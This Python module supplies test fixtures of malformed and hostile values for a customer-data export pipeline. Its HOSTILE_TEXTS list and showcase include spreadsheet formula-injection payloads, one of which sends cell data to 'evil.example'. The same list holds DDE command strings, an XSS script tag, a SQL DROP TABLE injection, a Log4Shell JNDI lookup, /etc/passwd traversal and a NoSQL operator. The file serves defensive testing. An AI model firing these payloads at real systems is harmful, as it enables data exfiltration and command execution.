"""The mess of real life, on purpose: values of the wrong type, hostile texts, and a showcase of each kind.

Belongs here: what is wrong with a value. Not here: ordinary values (`demo_values.py`) and who gets which
(`demo_contacts.py`; contact number i of every company carries `showcase()[i]`, so each kind is found without a search).
"""

from datetime import UTC, datetime
from functools import cache
from typing import Any, Final, NamedTuple

from bson.decimal128 import Decimal128
from bson.int64 import Int64

from cdp_pipelines.local.demo_values import Money

MISSING: Final = object()
"""Stands for a key that is not there at all."""

HOSTILE_TEXTS: Final[tuple[str, ...]] = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"klik di sini")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "'; DROP TABLE contacts; --",
    'say "hi", then\r\nleave',
    "a;b,c|d\te",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    '{"$gt": ""}',
    "#REF!",
    "NULL",
)

WRONG_FOR_TEXT: Final[tuple[object, ...]] = (42, 3.5, True, ["a", "b"], {"value": "x"}, [])
WRONG_FOR_NUMBER: Final[tuple[object, ...]] = ("12,5 kg", "n/a", "1.000.000", "12.5", True, [7], "")
WRONG_FOR_DATE: Final[tuple[object, ...]] = ("31/12/2024", "besok", 1_735_689_600, "2024-02-30", "")
WRONG_FOR_BOOL: Final[tuple[object, ...]] = ("yes", "tidak", 1, 0, "")
WRONG_FOR_LIST: Final[tuple[object, ...]] = ("kopi, teh", [], [None, "kopi"], ["kopi", 7, ["teh"]], '["kopi"]')
WRONG_FOR_PLACE: Final[tuple[object, ...]] = ("Jakarta", [], {"lat": -6.2}, [-6.2], "-6.2;106.8", "")

_WRONG: Final[dict[str, tuple[object, ...]]] = {
    "number": WRONG_FOR_NUMBER,
    "date": WRONG_FOR_DATE,
    "date_time": WRONG_FOR_DATE,
    "bool": WRONG_FOR_BOOL,
    "multiple_select": WRONG_FOR_LIST,
    "gps": WRONG_FOR_PLACE,
}
_TAKES_TEXT: Final = frozenset({"single_line_text", "text_area", "dropdown_select", "url", "default"})


def wrong_values(field_type: str) -> tuple[object, ...]:
    """Values that have no business in a field of this type."""
    return _WRONG.get(field_type, WRONG_FOR_TEXT)


def takes_hostile_text(field_type: str) -> bool:
    """Whether people can type free text into such a field."""
    return field_type in _TAKES_TEXT


class Mess(NamedTuple):
    """One kind of mess: the field it is in (`custom_fields` for the list itself) and the value there."""

    kind: str
    field: str
    value: Any


@cache
def showcase() -> tuple[Mess, ...]:
    """Every kind of mess once; at most 50, so that the smallest company shows them all."""
    long_text = "Pelanggan ini menulis panjang sekali. 🙂 " * 1_000
    return (
        Mess("formula", "name", HOSTILE_TEXTS[0]),
        Mess("formula_at", "company_name", HOSTILE_TEXTS[1]),
        Mess("formula_after_no_break_space", "nickname", "\u00a0=1+1"),
        Mess("formula_full_width", "job_title", "＝SUM(A1:A9)"),
        Mess("formula_after_newline", "remarks", "\n=1+1"),
        Mess("emoji", "nickname", "👩‍👩‍👧‍👦 Keluarga 🇮🇩"),
        Mess("right_to_left", "name", "عبد الرحمن بن محمد"),
        Mess("right_to_left_override", "nickname", "invoice\u202efdp.exe"),
        Mess("combining_marks", "name", "Zoe\u0308 Ma\u0301rquez"),
        Mess("newlines", "address", "Jl. Merdeka No. 1\nRT 02/RW 03\r\nJakarta\r10110"),
        Mess("quotes_and_commas", "remarks", 'Katanya "bagus", tapi, ya\n…mahal'),
        Mess("control_characters", "remarks", "bel\u0007 vertikal\u000b hapus\u007f escape\u001b[31m"),
        Mess("nul_character", "agent_notes", "sebelum\u0000sesudah"),
        Mess("noncharacter", "agent_notes", "akhir\ufffe\uffff"),
        Mess("spaces_only", "nickname", "   "),
        Mess("empty_text", "city", ""),
        Mess("very_long", "remarks", long_text),
        Mess("number_in_text", "city", 12345),
        Mess("list_in_text", "company_name", ["PT Satu", "PT Dua"]),
        Mess("document_in_text", "job_title", {"id": 7, "title": "Manajer"}),
        Mess("text_in_number", "total_orders", "sekitar 12"),
        Mess("number_as_text", "total_orders", "12.5"),
        Mess("bool_in_number", "satisfaction", True),
        Mess("largest_int64", "loyalty_points", Int64(2**63 - 1)),
        Mess("first_int_over_double", "loyalty_points", Int64(2**53 + 1)),
        Mess("decimal_30_digits", "balance_units", Decimal128("123456789012345678901234567890.12")),
        Mess("decimal_not_a_number", "balance_units", Decimal128("NaN")),
        Mess("not_a_number", "satisfaction", float("nan")),
        Mess("infinity", "satisfaction", float("-inf")),
        Mess("tiny_exponent", "balance_units", 1e-7),
        Mess("huge_double", "balance_units", 1.7976931348623157e308),
        Mess("percentage_decimal", "discount_rate", Decimal128("7.25")),
        Mess("percentage_as_text", "discount_rate", "12.5%"),
        Mess("currency_without_code", "lifetime_value", 1_000_000),
        Mess("currency_hostile_code", "credit_limit", Money(12.5, '=A1"')),
        Mess("currency_decimal", "credit_limit", Money(Decimal128("1234.50"), "USD")),
        Mess("date_far_past", "birth_date", datetime(1, 1, 1, tzinfo=UTC)),
        Mess("date_before_excel", "birth_date", datetime(1899, 12, 30, tzinfo=UTC)),
        Mess("date_near_midnight", "birth_date", datetime(1990, 3, 31, 23, 30, tzinfo=UTC)),
        Mess("date_not_in_calendar", "anniversary", "2023-02-29"),
        Mess("plain_phone", "phone", "+62 812-3456-7890"),
        Mess("formula_as_phone", "phone", "+62812*cmd|' /C calc'!A0"),
        Mess("place_as_document", "home_location", {"lat": -6.2, "lng": 106.8}),
        Mess("select_with_quotes", "interests", ['kopi "tubruk"', "teh, manis", "=1+1", "日本茶"]),
        Mess("null_value", "email", None),
        Mess("missing_key", "phone", MISSING),
        Mess("no_updated_at", "updated_at", MISSING),
        Mess("custom_fields_null", "custom_fields", None),
        Mess("custom_fields_missing", "custom_fields", MISSING),
        Mess("custom_fields_broken_entries", "custom_fields", ["vip", None, {"value": 1}, {"key": "vip"}]),
    )
